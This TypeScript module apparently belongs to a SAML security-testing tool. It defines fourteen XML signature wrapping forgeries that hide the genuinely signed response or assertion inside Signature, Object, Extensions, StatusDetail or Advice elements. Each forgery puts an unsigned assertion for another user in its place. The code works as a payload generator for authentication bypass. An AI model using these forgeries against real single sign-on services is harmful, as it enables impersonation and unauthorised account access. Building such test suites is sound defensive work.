/**
 * XML signature wrapping: the signed part stays in the document, but elsewhere, and a forged one takes its place. The
 * first eight are the known attacks; the others hide the whole response, so that every signature still refers to
 * something.
 */
import { NAMESPACES } from '../names';
import { newId } from '../response';
import { elementsOf, find, need, parse, serialize } from '../xml';
import type { Fault, FaultGroup, Outcome, Scene } from './model';
import { impersonate } from './signatures';

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  /** A copy without a signature, with another ID and another person. */
  readonly evil: Element;
}

const clone = (from: Element) => from.cloneNode(true) as Element;

function unsigned(of: Element): Element {
  const copy = clone(of);
  for (const signature of elementsOf(copy).filter(({ localName }) => localName === 'Signature'))
    copy.removeChild(signature);
  return copy;
}

function partsOf(document: Document, scene: Scene): Parts {
  const assertion = need(document, 'Assertion');
  const evil = unsigned(assertion);
  evil.setAttribute('ID', newId());
  impersonate(evil, scene);
  return { document, response: document.documentElement, assertion, evil };
}

/**
 * Makes a forged response around the copy of the assertion; it has the real response's `signature`, if there is one.
 */
function evilResponse({ response, evil }: Parts): Element {
  const root = clone(response);
  root.setAttribute('ID', newId());
  root.replaceChild(evil, need(root, 'Assertion'));
  return root;
}

function replaceRoot(document: Document, root: Element): void {
  document.replaceChild(root, document.documentElement);
}

const objectOf = (document: Document, content: Element) => {
  const made = document.createElementNS(NAMESPACES.ds, 'ds:Object');
  made.appendChild(content);
  return made;
};

const extensionsOf = (document: Document, content: Element) => {
  const made = document.createElementNS(NAMESPACES.samlp, 'samlp:Extensions');
  made.appendChild(content);
  return made;
};

const wrapping = (id: string, what: string, outcome: Outcome, wrap: (parts: Parts) => void): Fault => ({
  id,
  what: `Firma avvolta: ${what}`,
  outcome,
  forge: (xml, scene) => {
    const document = parse(xml);
    wrap(partsOf(document, scene));
    return serialize(document);
  },
});

const afterIssuer = (root: Element) => find(root, 'Issuer')?.nextSibling ?? null;

/**
 * Makes a forged root whose assertion has a copy of the true assertion's signature; `hide` puts the true response
 * somewhere in it.
 */
const hiding = (
  id: string,
  where: string,
  hide: (document: Document, root: Element, original: Element) => void,
): Fault =>
  wrapping(id, `Response intera in ${where}, entrambe le firme copiate`, 'wrapping', (parts) => {
    const { document, response, assertion, evil } = parts;
    const original = unsigned(response);
    evil.insertBefore(clone(need(assertion, 'Signature')), afterIssuer(evil));
    const root = evilResponse(parts);
    replaceRoot(document, root);
    hide(document, root, original);
  });

export const wrappingFaults: FaultGroup = {
  title: 'Firme avvolte (XML signature wrapping)',
  faults: [
    wrapping('xsw-1', 'Response vera dentro la firma, falsa intorno', 'wrapping', (parts) => {
      const root = evilResponse(parts);
      need(root, 'Signature').appendChild(unsigned(parts.response));
      replaceRoot(parts.document, root);
    }),
    wrapping('xsw-2', 'Response vera prima della firma, falsa intorno', 'wrapping', (parts) => {
      const root = evilResponse(parts);
      root.insertBefore(unsigned(parts.response), find(root, 'Signature') ?? null);
      replaceRoot(parts.document, root);
    }),
    wrapping('xsw-3', 'Assertion falsa prima di quella vera', 'response_signature', ({ response, assertion, evil }) => {
      response.insertBefore(evil, assertion);
    }),
    wrapping('xsw-4', 'Assertion vera dentro quella falsa', 'wrapping', ({ response, assertion, evil }) => {
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
    }),
    wrapping(
      'xsw-5',
      'Assertion falsa con la firma, quella vera in fondo senza',
      'response_signature',
      ({ response, assertion, evil }) => {
        evil.insertBefore(clone(need(assertion, 'Signature')), afterIssuer(evil));
        response.replaceChild(evil, assertion);
        response.appendChild(unsigned(assertion));
      },
    ),
    wrapping(
      'xsw-6',
      'Assertion falsa con la firma, quella vera dentro la firma',
      'wrapping',
      ({ response, assertion, evil }) => {
        const signature = clone(need(assertion, 'Signature'));
        signature.appendChild(unsigned(assertion));
        evil.insertBefore(signature, afterIssuer(evil));
        response.replaceChild(evil, assertion);
      },
    ),
    wrapping('xsw-7', 'Assertion falsa in Extensions', 'wrapping', ({ document, response, assertion, evil }) => {
      response.insertBefore(extensionsOf(document, evil), assertion);
    }),
    wrapping(
      'xsw-8',
      'Assertion vera in un Object della firma',
      'wrapping',
      ({ document, response, assertion, evil }) => {
        const signature = clone(need(assertion, 'Signature'));
        signature.appendChild(objectOf(document, unsigned(assertion)));
        evil.insertBefore(signature, afterIssuer(evil));
        response.replaceChild(evil, assertion);
      },
    ),
    hiding('xsw-9', 'un Object della sua firma', (document, root, original) => {
      need(root, 'Signature').appendChild(objectOf(document, original));
    }),
    hiding('xsw-10', 'Extensions', (document, root, original) => {
      root.insertBefore(extensionsOf(document, original), find(root, 'Status') ?? null);
    }),
    hiding('xsw-11', 'StatusDetail', (document, root, original) => {
      const detail = document.createElementNS(NAMESPACES.samlp, 'samlp:StatusDetail');
      detail.appendChild(original);
      need(root, 'Status').appendChild(detail);
    }),
    hiding('xsw-12', 'Advice dell’Assertion falsa', (document, root, original) => {
      const advice = document.createElementNS(NAMESPACES.saml, 'saml:Advice');
      advice.appendChild(original);
      const assertion = need(root, 'Assertion');
      assertion.insertBefore(advice, find(assertion, 'AuthnStatement') ?? null);
    }),
    wrapping('xsw-same-id', 'Response falsa con lo stesso ID di quella vera', 'wrapping', (parts) => {
      const root = evilResponse(parts);
      root.setAttribute('ID', parts.response.getAttribute('ID') ?? '');
      root.appendChild(extensionsOf(parts.document, unsigned(parts.response)));
      replaceRoot(parts.document, root);
    }),
    wrapping(
      'xsw-other-id-attribute',
      'Assertion falsa che porta l’ID di quella vera come Id',
      'wrapping',
      ({ response, assertion, evil }) => {
        evil.setAttribute('Id', assertion.getAttribute('ID') ?? '');
        evil.insertBefore(clone(need(assertion, 'Signature')), afterIssuer(evil));
        response.insertBefore(evil, assertion);
      },
    ),
  ],
};
